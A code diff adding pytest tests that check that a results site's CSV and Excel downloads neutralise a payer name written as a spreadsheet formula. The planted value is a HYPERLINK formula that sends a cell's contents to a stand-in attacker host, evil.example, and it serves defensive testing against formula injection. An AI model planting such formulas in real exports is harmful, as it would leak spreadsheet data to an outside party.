@@ -181,3 +181,41 @@ def test_the_home_page_shows_the_collaboratives_latest_results(
     text = client.get("/").text
     assert "How the collaborative is doing, 2025" in text
     assert "50.0%" in text  # the collaborative's 200 of 400
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
+
+
+@pytest.fixture
+def formula_name(db: Session, region: Region) -> None:
+    """A payer whose name, as sent in eligibility, is a spreadsheet formula."""
+    planted = cell("lakeshore", None, 371, 190)
+    planted["entity_name"] = FORMULA
+    publish_cells(db, [cell("collaborative", None, 400, 200, entity_type="collaborative"), planted])
+    db.commit()
+
+
+@pytest.mark.usefixtures("formula_name")
+def test_a_formula_sent_as_a_name_is_quoted_in_the_csv_download(
+    client: TestClient, app_db: AppDatabase, region: Region
+) -> None:
+    signed_in(client, app_db, region.people[Role.VIEWER])
+    text = client.get(f"/results/download.csv?{QUERY}").text
+    names = [r["entity_name"] for r in csv.DictReader(io.StringIO(text))]
+    assert "'" + FORMULA in names
+    assert not any(name.startswith(("=", "+", "-", "@")) for name in names)
+
+
+@pytest.mark.usefixtures("formula_name")
+def test_a_formula_sent_as_a_name_is_text_in_the_excel_download(
+    client: TestClient, app_db: AppDatabase, region: Region
+) -> None:
+    signed_in(client, app_db, region.people[Role.VIEWER])
+    answer = client.get(f"/results/download.xlsx?{QUERY}")
+    sheet = load_workbook(io.BytesIO(answer.content))["results"]
+    column = [c.value for c in sheet[1]].index("entity_name") + 1
+    cells = [sheet.cell(row, column) for row in range(2, sheet.max_row + 1)]
+    planted = next(c for c in cells if c.value == FORMULA)
+    assert planted.data_type == "s"
+    assert planted.quotePrefix
+    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
